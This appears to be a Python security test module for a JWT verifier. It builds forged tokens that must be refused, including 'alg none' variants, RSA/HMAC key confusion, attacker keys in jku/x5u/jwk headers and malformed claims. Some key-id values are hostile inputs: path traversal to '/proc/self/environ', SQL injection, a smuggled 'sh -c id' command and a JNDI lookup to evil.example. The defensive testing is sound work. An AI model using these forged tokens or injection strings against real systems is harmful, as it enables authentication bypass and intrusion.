"""Attacks by what a token is, or says."""

import json
from collections.abc import Iterator
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric.ec import ECDSA
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.security.forge import ATTACKER, MISSING, SECRET, TENANT, VICTIM, Attack, Forge, Harmless
from tests.support.issuer import ISSUER, base64url
from workers.common.times import iso

_NO: Final = "unauthenticated"
_OWN: Final = Harmless(TENANT, ATTACKER)


def _refused(name: str, make: Any, age_s: int = 0) -> Attack:
    return Attack(name, _NO, make, age_s)


def _none() -> Iterator[Attack]:
    for alg in ("none", "None", "NONE", "nOnE", "", " none", "HS256 none"):
        yield _refused(f"algorithm {alg!r}", lambda f, a=alg: f.raw({"alg": a}, signature=b"x"))
    yield _refused(
        "algorithm none, no signature",
        lambda f: f.with_token(
            base64url(b'{"alg":"none"}') + "." + base64url(json.dumps(f.claims()).encode()) + "."
        ),
    )
    for kind in (None, 1, ["none"], {"ES256": 1}, True):
        yield _refused(f"algorithm of another type: {kind!r}", lambda f, a=kind: f.raw({"alg": a}))
    yield _refused("no algorithm", lambda f: f.raw({"kid": "es"}))


def _public(f: Forge, encoding: Encoding, form: PublicFormat, name: str = "rs") -> bytes:
    written: bytes = f.key(name).private.public_key().public_bytes(encoding, form)
    return written


def _confused() -> Iterator[Attack]:
    pem, der = Encoding.PEM, Encoding.DER
    spki, pkcs1 = PublicFormat.SubjectPublicKeyInfo, PublicFormat.PKCS1
    for algorithm in ("HS256", "HS384", "HS512"):
        yield _refused(
            f"{algorithm} signed with the public RSA key",
            lambda f, a=algorithm: f.hmac(_public(f, pem, spki), a, kid="rs"),
        )
    yield _refused(
        "HS256 signed with the public RSA key without its last line break",
        lambda f: f.hmac(_public(f, pem, spki).rstrip(), kid="rs"),
    )
    yield _refused("… in DER", lambda f: f.hmac(_public(f, der, spki), kid="rs"))
    yield _refused("… in PKCS 1", lambda f: f.hmac(_public(f, pem, pkcs1), kid="rs"))
    yield _refused("… as JWK", lambda f: f.hmac(json.dumps(f.key("rs").jwk()).encode(), kid="rs"))
    yield _refused(
        "HS256 signed with the public key of ES256", lambda f: f.hmac(_public(f, pem, spki, "es"))
    )
    for key in (b"", b"secret", b"\0", b"null", SECRET[:-1].encode(), SECRET.upper().encode()):
        yield _refused(f"HS256 signed with {key[:6]!r}…", lambda f, k=key: f.hmac(k))
    yield _refused("HS512 with the right secret", lambda f: f.hmac(SECRET.encode(), "HS512"))
    for alg in ("PS256", "RS512", "ES384", "HS256", "RS256", "EdDSA"):
        yield _refused(f"ES256 said to be {alg}", lambda f, a=alg: f.raw({"alg": a, "kid": "es"}))
    yield _refused("RS256 under the key id of ES256", lambda f: _under(f, "rs", "es"))
    yield _refused("EdDSA under the key id of RS256", lambda f: _under(f, "ed", "rs"))


def _under(f: Forge, key: str, key_id: Any) -> bytes:
    return f.with_token(f.key(key).sign(f.claims(), kid=key_id))


def _key_ids() -> Iterator[Attack]:
    for kid in (
        "unknown",
        "ES",
        "es ",
        "../../../../dev/null",
        "/proc/self/environ",
        "es' OR '1'='1",
        "' UNION SELECT 'key' --",
        "es|sh -c id",
        "${jndi:ldap://evil.example/a}",
        "http://evil.example/key",
        "*",
        "",
        "\u0435\u0455",  # looks like the real one, in Cyrillic
    ):
        yield _refused(f"own key under the id {kid!r}", lambda f, k=kid: _under(f, "evil", k))
    yield _refused("own key under the id of the issuer's", lambda f: _under(f, "evil", "es"))
    yield _refused("own key under no id", lambda f: f.raw({"alg": "ES256"}, signature=_by_evil(f)))
    for other in (1, ["es"], {"kid": "es"}, True, "x" * 257):
        yield _refused(
            f"a key id that is none: {str(other)[:12]}",
            lambda f, k=other: f.raw({"alg": "ES256", "kid": k}, signature=_by_evil(f)),
        )


def _by_evil(f: Forge) -> bytes:
    return f.key("evil").private.sign(b"x", _ecdsa())  # type: ignore[no-any-return]


def _ecdsa() -> Any:
    return ECDSA(SHA256())


def _headers() -> Iterator[Attack]:
    for kid in ("evil", "es", "unknown"):
        for name, value in (
            ("jku", lambda f: f.other.url),
            ("x5u", lambda f: f.other.url),
            ("jwk", lambda f: f.key("evil").jwk()),
            ("x5c", lambda f: [base64url(_public(f, Encoding.DER, _SPKI, "evil"))]),
        ):
            yield _refused(
                f"own key in {name}, id {kid}",
                lambda f, n=name, v=value, k=kid: f.with_token(
                    f.key("evil").sign(f.claims(), **{"kid": k, n: v(f)})
                ),
            )
    for crit in (["exp"], ["unknown"], [], "exp", None, ["b64"]):
        yield _refused(
            f"crit {crit!r}", lambda f, c=crit: f.raw({"alg": "ES256", "kid": "es", "crit": c})
        )
    for name, said in (("b64", False), ("zip", "DEF"), ("enc", "A256GCM"), ("cty", "JWT")):
        yield _refused(
            f"header {name}",
            lambda f, n=name, v=said: f.raw({"alg": "ES256", "kid": "es", n: v}),
        )
    yield _refused("typ of another token", lambda f: f.raw({"alg": "ES256", "typ": "dpop+jwt"}))
    yield _refused(
        "alg twice in the header", lambda f: f.raw(b'{"alg":"none","alg":"ES256","kid":"es"}')
    )
    yield _refused("a header that is a list", lambda f: f.raw(b'["ES256"]'))
    yield _refused("a header nested deeply", lambda f: f.raw(b'{"a":' + b"[" * 900 + b"]" * 900))


_SPKI: Final = PublicFormat.SubjectPublicKeyInfo


def _shapes() -> Iterator[Attack]:
    def cut(change: Any) -> Any:
        return lambda f: f.with_token(change(f.key().sign(f.claims())))

    for name, change in (
        ("no signature", lambda t: t[: t.rindex(".") + 1]),
        ("two parts", lambda t: t[: t.rindex(".")]),
        ("four parts", lambda t: t + ".e30"),
        ("five parts, as if encrypted", lambda t: t + ".e30.e30"),
        ("the signature cut short", lambda t: t[:-10]),
        ("zeros for a signature", lambda t: t[: t.rindex(".") + 1] + base64url(bytes(64))),
        ("a signature in DER", lambda t: t[: t.rindex(".") + 1] + base64url(b"\x30\x06\x02\x01")),
        ("a line break at the end", lambda t: t + "\n"),
        ("a blank before", lambda t: " " + t),
        ("Bearer before", lambda t: "Bearer " + t),
        ("padding", lambda t: t + "=="),
        ("the other alphabet of base64", lambda t: t.replace("-", "+").replace("_", "/") + "+"),
        ("a NUL in it", lambda t: t[:20] + "\0" + t[20:]),
        ("dots alone", lambda _: ".."),
        ("nothing", lambda _: ""),
        ("another's text", lambda _: "eyJ" * 50),
        ("the last bits of the signature, which mean nothing", _other_last_bits),
    ):
        yield _refused(f"a token with {name}", cut(change))
    for token in (None, MISSING):
        yield _refused(
            f"no token {token is None}",
            lambda f, t=token: (
                f.event(f.claims(), None)
                if t is None
                else _without(f.event(f.claims(), None), "token")
            ),
        )
    for token in (5, ["x"], {"a": 1}, True):
        yield _refused(f"a token that is {token!r}", lambda f, t=token: f.with_token(t))
    yield Attack("a token of 9,000 bytes", "too_large", lambda f: f.with_token("e" * 9_000))
    yield Attack(
        "a good token that is too long",
        "too_large",
        lambda f: f.event(f.claims(padding="x" * 9_000)),
    )


def _other_last_bits(token: str) -> str:
    """64 bytes are 86 characters, of which the last has four bits too many."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return token[:-1] + alphabet[alphabet.index(token[-1]) ^ 1]


def _without(event: bytes, name: str) -> bytes:
    made = json.loads(event)
    del made["data"][name]
    return json.dumps(made).encode()


def _payloads() -> Iterator[Attack]:
    for name, payload in (
        ("a list", b"[]"),
        ("a string", b'"claims"'),
        ("null", b"null"),
        ("no JSON", b"{sub: 1}"),
        ("nothing", b" "),
        ("not UTF-8", b'{"sub":"\xff"}'),
        ("UTF-16", '{"sub":"mallory"}'.encode("utf-16")),
        ("nested deeply", b'{"a":' + b'{"a":' * 1_000 + b"1" + b"}" * 1_001),
        ("lists nested deeply", b"[" * 3_000),
        ("a number of 4,000 digits", b'{"exp":' + b"9" * 4_000 + b"}"),
    ):
        yield _refused(f"a payload that is {name}", lambda f, p=payload: f.raw(payload=p))
    for name in ("sub", "exp", "tenant_id", "role"):
        yield _refused(
            f"{name} twice in the payload",
            lambda f, n=name: f.raw(
                payload=json.dumps(f.claims())[:-1].encode() + f',"{n}":"other"}}'.encode()
            ),
        )
    for name in ("sub", "iss", "aud", "exp", "iat"):
        yield _refused(
            f"no {name} in the token",
            lambda f, n=name: f.event(f.claims(), f.signed(f.claims(**{n: MISSING}))),
        )
        yield _refused(
            f"no {name} in token and claims", lambda f, n=name: f.event(f.claims(**{n: MISSING}))
        )
    for name in ("exp", "iat", "nbf"):
        values: tuple[Any, ...] = ("soon", True, -1, [1], 1e300, {})
        for value in values:
            yield _refused(
                f"{name} {value!r}", lambda f, n=name, v=value: f.event(f.claims(**{n: v}))
            )
        for literal in ("NaN", "Infinity", "1e999"):
            yield _refused(
                f"{name} {literal}",
                lambda f, n=name, x=literal: f.raw(
                    payload=json.dumps(f.claims(**{n: 12345})).replace("12345", x).encode()
                ),
            )


def _times() -> Iterator[Attack]:
    hour = 3_600
    yield _refused("expired before it entered", lambda f: f.event(f.claims(exp=f.now - 300)))
    yield _refused("expired in 1970", lambda f: f.event(f.claims(exp=0)))
    yield Attack(
        "expired after it entered",
        _OWN,
        lambda f: f.event(
            f.claims(iat=f.now - 3 * hour, exp=f.now - hour), answered_at=_at(f, -3 * hour)
        ),
        age_s=2 * hour,
    )
    yield _refused(
        "expired before it entered, both long ago",
        lambda f: f.event(
            f.claims(iat=f.now - 5 * hour, exp=f.now - 3 * hour), answered_at=_at(f, -5 * hour)
        ),
        age_s=2 * hour,
    )
    yield _refused(
        "in the queue for longer than allowed",
        lambda f: f.event(f.claims(iat=f.now - 9 * 24 * hour), answered_at=_at(f, -9 * 24 * hour)),
        age_s=8 * 24 * hour,
    )
    yield _refused("not valid yet", lambda f: f.event(f.claims(nbf=f.now + 300)))
    yield _refused("issued in the future", lambda f: f.event(f.claims(iat=f.now + 300)))
    # A clock of Redis that is behind must refuse no token that is valid by now.
    yield Attack(
        "valid now, not yet when it entered",
        _OWN,
        lambda f: f.event(f.claims(nbf=f.now - hour), answered_at=_at(f, -3 * hour)),
        age_s=2 * hour,
    )


def _at(f: Forge, seconds: int) -> str:
    return iso((f.now + seconds) * 1_000_000)


def _parties() -> Iterator[Attack]:
    for issuer in (
        "https://evil.example",
        ISSUER + "/",
        ISSUER[:-1],
        ISSUER + ".evil.example",
        ISSUER.upper(),
        ISSUER.replace("https", "http"),
        ISSUER.replace("/auth/v1", ""),
        ISSUER + "\n",
        ISSUER.replace("issuer", "issuеr"),  # noqa: RUF001  # in Cyrillic
        f"https://evil.example/{ISSUER}",
        "*",
        "",
    ):
        yield _refused(f"issuer {issuer!r}", lambda f, i=issuer: f.event(f.claims(iss=i)))
    for issuers in ([ISSUER], {"iss": ISSUER}, None, 1):
        yield _refused(f"issuer {issuers!r}", lambda f, i=issuers: f.event(f.claims(iss=i)))
    for audience in (
        "anon",
        "authenticated ",
        "Authenticated",
        "authenticate",
        "authenticated,anon",
        "",
        [],
        ["anon"],
        [["authenticated"]],
        {"authenticated": True},
        None,
        "*",
    ):
        yield _refused(f"audience {audience!r}", lambda f, a=audience: f.event(f.claims(aud=a)))
    yield Attack(
        "a list of audiences, ours among them",
        _OWN,
        lambda f: f.event(f.claims(aud=["other", "authenticated"])),
    )
    for sub in (1, None, [], ["ann"], {"id": "ann"}, "", True, "x" * 129, "a\nb", "a\0"):
        yield _refused(
            f"sub {str(sub)[:12]!r}",
            lambda f, s=sub: f.event(f.claims(sub=s), student_id=VICTIM),
        )
    for tenant in (7, [TENANT], {"id": TENANT}, True, "", "x" * 129, "a\nb", "\x1b[2J"):
        yield _refused(
            f"tenant {str(tenant)[:12]!r}", lambda f, t=tenant: f.event(f.claims(tenant_id=t))
        )
    for role in (7, ["service_role"], {"service_role": True}, True):
        yield _refused(f"role {role!r}", lambda f, r=role: f.event(f.claims(role=r)))
    yield Attack(
        "no tenant at all",
        Harmless("default", ATTACKER),
        lambda f: f.event(f.claims(tenant_id=MISSING)),
    )


def token_attacks() -> list[Attack]:
    """All of them."""
    groups = (_none, _confused, _key_ids, _headers, _shapes, _payloads, _times, _parties)
    return [attack for group in groups for attack in group()]
